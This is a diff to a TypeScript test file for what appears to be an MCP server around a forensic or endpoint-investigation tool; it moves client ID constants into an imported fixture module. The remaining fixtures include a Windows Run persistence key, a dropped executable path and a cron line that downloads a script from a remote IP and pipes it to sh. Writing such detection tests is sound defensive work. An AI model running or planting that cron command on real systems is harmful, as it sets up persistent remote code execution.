@@ -25,12 +25,8 @@ import { safetyOf } from "../../mcp/tools/define.js";
 import { TOOLS } from "../../mcp/tools/index.js";
 import { startTestServer, type TestServer } from "../../test-server/index.js";
 import { MAIN, startMcp, type StartedMcp } from "../helpers/mcp.js";
+import { HR as WIN2, LINUX, LINUX as WEB, WIN, WIN as FIN } from "../helpers/fixture-ids.js";
 
-const WIN = "C.1a2b3c4d5e6f7a01";
-const WIN2 = "C.1a2b3c4d5e6f7a02";
-const LINUX = "C.2b3c4d5e6f7a8b01";
-const FIN = "C.1a2b3c4d5e6f7a01";
-const WEB = "C.2b3c4d5e6f7a8b01";
 const EVIL = "C:\\Users\\bob\\AppData\\Local\\Temp\\upd.exe";
 const RUN_KEY = "HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\Run";
 const CRON_LINE = "*/5 * * * * curl -s http://185.220.101.4/k.sh | sh";
